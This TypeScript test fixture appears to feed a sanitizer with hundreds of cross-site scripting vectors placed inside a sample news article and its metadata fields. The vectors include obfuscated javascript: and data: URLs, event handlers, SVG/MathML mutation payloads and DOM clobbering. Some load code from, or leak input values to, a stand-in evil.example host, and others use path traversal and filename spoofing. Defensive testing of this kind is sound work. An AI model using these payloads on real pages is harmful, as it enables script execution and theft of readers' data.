/** A piece of a page that tries to get something run, fetched or shown by whoever shows the story again. */
export interface Vector {
  /** The class of attack. */
  kind: string;
  html: string;
}

/** Characters that browsers skip, or once skipped, before or within the name of a scheme. */
const SKIPPED = ['\t', '\n', '\r', '\u0001', '\u001f', ' ', '\u00a0', '\u2003', '\u2028', '\u3000', '\ufeff', '\u200b'];

const RUNNING_ADDRESSES = [
  'javascript:pwn(1)',
  'JaVaScRiPt:pwn(1)',
  'java\nscript:pwn(1)',
  'java\tscript:pwn(1)',
  'javascript\r\n:pwn(1)',
  '&#106;&#97;vascript:pwn(1)',
  '&#x6A;avascript&colon;pwn(1)',
  'javascript&#0000058;pwn(1)',
  'java&Tab;script:pwn(1)',
  'javascript://news.example/%0apwn(1)',
  'javascript:/*https://news.example/*/pwn(1)',
  'vbscript:pwn(1)',
  'livescript:pwn(1)',
  'data:text/html,<script>pwn(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg onload=pwn(1)>',
  'DATA:application/xhtml+xml,<x/>',
  'blob:https://news.example/1',
  'filesystem:https://news.example/x',
  'file:///etc/passwd',
  'view-source:javascript:pwn(1)',
  'chrome-extension://abcdefghijklmnop/popup/index.html',
  'feed:javascript:pwn(1)',
  'mhtml:https://news.example/x!y',
  'intent://scan/#Intent;scheme=zxing;end',
  'about:blank',
  ...SKIPPED.map((character) => `${character}javascript:pwn(1)`),
];

const HANDLERS = ['onclick', 'onerror', 'onload', 'onfocus', 'onmouseover', 'onpointerrawupdate', 'onbeforetoggle'];

const CLOBBERED = [
  'attributes', 'children', 'childNodes', 'parentNode', 'nodeName', 'nodeType', 'tagName', 'textContent', 'getAttribute',
  'firstChild', 'nextSibling', 'ownerDocument', 'querySelector', 'body', 'head', 'documentElement', 'createElement',
  'getElementById', 'cookie', 'location', 'defaultView', 'baseURI', 'title', 'forms', '__proto__', 'constructor',
]; // biome-ignore format: a list of names

/** Words that every vector may carry into the story as text. */
const WORDS = 'Words of the story that stand inside of it.';

const MARKUP: [kind: string, ...html: string[]][] = [
  [
    'script',
    '<script>pwn(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<scr<script>ipt>pwn(1)</scr</script>ipt>',
    '<script/x>pwn(1)</script\n>',
    '<noscript><p title="</noscript><img src=x onerror=pwn(1)>"></noscript>',
    '<!--><img src=x onerror=pwn(1)>-->',
    '<!-- --!><img src=x onerror=pwn(1)> -->',
    '<![CDATA[><img src=x onerror=pwn(1)>]]>',
    '<?xml-stylesheet href="javascript:pwn(1)"?><img src=x onerror=pwn(1)>',
    '<xmp><p title="</xmp><img src=x onerror=pwn(1)>"></xmp>',
    '<plaintext><img src=x onerror=pwn(1)>',
    '<listing>&lt;img src=x onerror=pwn(1)&gt;</listing>',
    '<textarea><img title="</textarea><img src=x onerror=pwn(1)>"></textarea>',
    '<title><img src=x onerror=pwn(1)></title>',
  ],
  [
    'drawing',
    `<svg onload=pwn(1)><text>${WORDS}</text></svg>`,
    '<svg><script>pwn(1)</script></svg>',
    '<svg><script href="data:text/javascript,pwn(1)" /></svg>',
    '<svg><a xlink:href="javascript:pwn(1)"><text y=9>click</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwn(1) />#x"/></svg>',
    '<svg><animate attributeName=href values="javascript:pwn(1)"/><a><text>click</text></a></svg>',
    '<svg><set attributeName=onmouseover to=pwn(1) /></svg>',
    `<svg><foreignObject><p onclick=pwn(1)>${WORDS}</p><iframe srcdoc="<script>pwn(1)</script>"></iframe></foreignObject></svg>`,
    '<svg><desc><style><!--</style><img title="--><img src=x onerror=pwn(1)>"></desc></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=pwn(1)>">',
    '<svg><image href="javascript:pwn(1)" onerror=pwn(1) /></svg>',
  ],
  [
    'formula',
    `<math><mi xlink:href="javascript:pwn(1)">${WORDS}</mi></math>`,
    '<math href="javascript:pwn(1)">click</math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=pwn(1)></annotation-xml></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwn(1) src>">',
    '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=# onerror=pwn(1)>">',
    '<maction actiontype="statusline#javascript:pwn(1)">x</maction>',
  ],
  [
    'mutation',
    '<p id="&lt;/p&gt;&lt;img src=x onerror=pwn(1)&gt;">',
    '<style><style/><img src=x onerror=pwn(1)>',
    '<b><style><style////><img src=x onerror=pwn(1)></style>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=pwn(1)>">',
    '<table><td><noscript><style></noscript><img src=x onerror=pwn(1)></style>',
    '<template><s><template><s><img src=x onerror=pwn(1)></s></template></s></template>',
    `<div><template shadowrootmode=open><p onclick=pwn(1)>${WORDS}</p><script>pwn(1)</script></template></div>`,
    '<option><style></option></select><b><img src=x onerror=pwn(1)></style></option>',
    '<img src=`x` `onerror=pwn(1)`>',
    '<img src="x` `<script>pwn(1)</script>"` `>',
    '<a title="&quot;&gt;&lt;img src=x onerror=pwn(1)&gt;">x</a>',
    '<figure><img src="a.png" alt="&quot; onerror=&quot;pwn(1)"><figcaption>&lt;img src=x onerror=pwn(1)&gt;</figcaption></figure>',
    '<p>&lt;script&gt;pwn(1)&lt;/script&gt; and &lt;img src=x onerror=pwn(1)&gt; as text.</p>',
    '<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;pwn(1)&lt;/script&gt;</code></pre>',
    '<p>[a link](javascript:pwn(1)) ![x](x"onerror="pwn(1)) &lt;javascript:pwn(1)&gt; `</code><img src=x>`</p>',
    '<p>\u0000<img\u0000 src=x onerror=pwn(1)>\u{d800}</p>',
    `${'<b>'.repeat(600)}<img src=x onerror=pwn(1)>`,
  ],
  [
    'frame',
    '<iframe src="javascript:pwn(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.pwn(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:pwn(1)"><p>fallback</p></object>',
    '<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">',
    '<applet code=x></applet><frameset onload=pwn(1)><frame src="javascript:pwn(1)"></frameset>',
    '<portal src="https://evil.example"></portal><fencedframe src="https://evil.example"></fencedframe>',
  ],
  [
    'page',
    '<base href="javascript:/pwn(1)//"><a href="x">relative</a>',
    '<base href="//evil.example/" target=_parent><img src="relative.png">',
    '<meta http-equiv=refresh content="0;url=javascript:pwn(1)">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<link rel=stylesheet href="//evil.example/x.css"><link rel=import href="//evil.example/x.html">',
    '<link rel=preload as=image href="//evil.example/x.png"><link rel=dns-prefetch href="//evil.example">',
    '<script type=importmap>{"imports":{"x":"//evil.example"}}</script><script type=speculationrules>{}</script>',
  ],
  [
    'style',
    `<p style="position:fixed;inset:0;background:url(//evil.example/x)">${WORDS}</p>`,
    `<p style="width:expression(pwn(1));-moz-binding:url(//evil.example);behavior:url(x)">${WORDS}</p>`,
    '<style>@import "//evil.example/x.css"; p { background: url(//evil.example/x) }</style>',
    '<style>input[value^=a] { background: url(//evil.example/a) }</style>',
    `<p class="broadsheet reader overlay" id="reader" slot="x" part="y">${WORDS}</p>`,
    `<font color="red" face="x"><center>${WORDS}</center></font><marquee onstart=pwn(1)>${WORDS}</marquee>`,
    `<table background="javascript:pwn(1)"><tr><td background="//evil.example/x">${WORDS}</td></tr></table>`,
  ],
  [
    'form',
    '<form action="javascript:pwn(1)"><button>Go</button><input type=submit formaction="javascript:pwn(1)"></form>',
    '<form id=f></form><button form=f formaction="javascript:pwn(1)">Go</button>',
    '<isindex action="javascript:pwn(1)"><input autofocus onfocus=pwn(1)><keygen autofocus onfocus=pwn(1)>',
    `<p contenteditable tabindex=0 autofocus onfocus=pwn(1)>${WORDS}</p>`,
    '<button popovertarget=x commandfor=x command=show-modal>x</button><div id=x popover onbeforetoggle=pwn(1)>x</div>',
    `<details open ontoggle=pwn(1)><summary>${WORDS}</summary>${WORDS}</details>`,
    '<dialog open onclose=pwn(1)><p>x</p></dialog>',
  ],
  [
    'media',
    '<img src=x onerror=pwn(1)><img src="javascript:pwn(1)"><img src="data:image/svg+xml,<svg onload=pwn(1)>">',
    '<img src="//evil.example/pixel.gif" width=1 height=1><img lowsrc="javascript:pwn(1)" dynsrc="javascript:pwn(1)">',
    '<img srcset="javascript:pwn(1) 1x, //evil.example/x.png 2x" sizes="x" longdesc="javascript:pwn(1)" usemap="#m">',
    '<map name=m><area shape=default href="javascript:pwn(1)"></map>',
    '<picture><source srcset="data:text/html,x" onerror=pwn(1)><img src="photo.png" onload=pwn(1)></picture>',
    '<video poster="javascript:pwn(1)" onloadstart=pwn(1)><source onerror=pwn(1) src=x></video><audio src onerror=pwn(1)>',
    '<figure><img data-src="javascript:pwn(1)" src="data:text/html,x"><figcaption onclick=pwn(1)>Caption</figcaption></figure>',
  ],
  [
    'link',
    '<a href="https://news.example/x" ping="//evil.example/" target="_top" rel="opener" download="x.exe">tracked</a>',
    '<a href="https://user:password@evil.example/">with a password</a>',
    '<a href="//evil.example\\@news.example/">two hosts</a>',
    '<a href="http://[::1">no address</a><a href="https://">none either</a>',
    '<a href="x" id="pwn" name="constructor" accesskey=x attributionsrc="//evil.example/">named</a>',
    '<q cite="javascript:pwn(1)">Quoted</q><blockquote cite="javascript:pwn(1)"><p>Quoted words of somebody else.</p></blockquote>',
    '<del cite="javascript:pwn(1)" datetime="x">gone</del><ins cite="javascript:pwn(1)">come</ins>',
  ],
];

/**
 * Vectors by class: those that the public suites of sanitizers try (DOMPurify's expectations, the HTML Sanitizer API's
 * web platform tests, OWASP's filter evasion list), each case in words of our own.
 */
export const VECTORS: readonly Vector[] = [
  ...RUNNING_ADDRESSES.flatMap((address) => [
    { kind: 'address', html: `<p>Words with <a href="${address}">a link</a> in them.</p>` },
    {
      kind: 'address',
      html: `<figure><img src="${address}" alt="A picture"><figcaption>A caption.</figcaption></figure>`,
    },
  ]),
  ...HANDLERS.map((name) => ({
    kind: 'handler',
    html: `<p ${name}="pwn(1)"><b ${name.toUpperCase()}='pwn(1)'>${WORDS}</b></p>`,
  })),
  ...CLOBBERED.map((name) => ({
    kind: 'clobbering',
    html: `<form onclick=pwn(1)><input name="${name}"><p>${WORDS}</p><img id="${name}" name="${name}" src=x></form>`,
  })),
  ...MARKUP.flatMap(([kind, ...pieces]) => pieces.map((html) => ({ kind, html }))),
];

const PARAGRAPHS = [
  'The council met on Tuesday and spent four hours on the bridge, the school and the price of water, in that order.',
  'Nobody left the room before the vote, which came shortly after eleven in the evening and was closer than expected.',
  'The mayor said that the money would be found, as it had been found in every year before this one, and thanked all.',
  'Her opponents pointed to the bridge, which has been closed to lorries since the spring because two beams are cracked.',
  'An engineer from the county explained what a repair would take: nine months, two barges and a dry summer.',
  'Families on the far bank now drive twenty minutes more to the school, and some of them have begun to row.',
].map((sentence) => `<p>${sentence}</p>\n`);

/** A story of a page with a piece of markup in the middle of it. */
export function pageWith(html: string): string {
  return `<!doctype html><html lang="en"><head><title>Council votes on the bridge after four hours</title>
<meta property="og:type" content="article"><meta property="og:site_name" content="The Tidewater Post"></head>
<body><main><article><h1>Council votes on the bridge after four hours</h1>
${PARAGRAPHS.slice(0, 3).join('')}${html}
${PARAGRAPHS.slice(3).join('')}</article></main></body></html>`;
}

/** A page that puts the same hostile value into every field that is read about a story. */
export function pageWithFields(value: string): string {
  const attribute = value.replaceAll('"', '&quot;');
  const data = JSON.stringify({
    '@type': 'NewsArticle',
    headline: value,
    description: value,
    url: value,
    mainEntityOfPage: value,
    image: { url: value, caption: value },
    author: { '@type': 'Person', name: value, url: value },
    publisher: { '@type': 'Organization', name: value, url: value, logo: { url: value } },
    articleSection: value,
    keywords: [value],
    datePublished: value,
    inLanguage: value,
    articleBody: value,
  }).replaceAll('<', '\\u003c');
  const names = ['og:title', 'og:description', 'og:url', 'og:image', 'og:image:alt', 'og:site_name', 'article:author'];
  return `<!doctype html><html lang="${attribute}" dir="${attribute}"><head>
<script type="application/ld+json">${data}</script>
${names.map((name) => `<meta property="${name}" content="${attribute}">`).join('')}
<meta name="author" content="${attribute}"><link rel="canonical" href="${attribute}"><link rel="icon" href="${attribute}">
<title>Council votes on the bridge</title></head>
<body><article><h1>Council votes on the bridge</h1><p class="byline">By <a rel="author" href="${attribute}">Ada Quill</a></p>
<figure><img src="${attribute}" alt="${attribute}"><figcaption>${attribute.replaceAll('<', '&lt;')}</figcaption></figure>
${PARAGRAPHS.join('')}<a href="${attribute}">More</a></article></body></html>`;
}

/** Values for fields: addresses that run, and text that becomes markup where somebody forgets to escape. */
export const FIELD_VALUES: readonly string[] = [
  ...RUNNING_ADDRESSES.filter((address) => !address.includes('&')),
  '<img src=x onerror=pwn(1)>',
  '"><script>pwn(1)</script>',
  "' onmouseover='pwn(1)",
  '</title></style></script><script>pwn(1)</script>',
  ']]><script>pwn(1)</script><![CDATA[',
  '--><img src=x onerror=pwn(1)><!--',
  '---\ntitle: x\n---\n# pwned',
  '$%7Bpwn(1)} {{constructor.constructor("pwn(1)")()}} `pwn(1)`',
  '../../../../etc/passwd\u0000.html',
  '\u202egnp.exe\u202c\u0000\u0008',
];
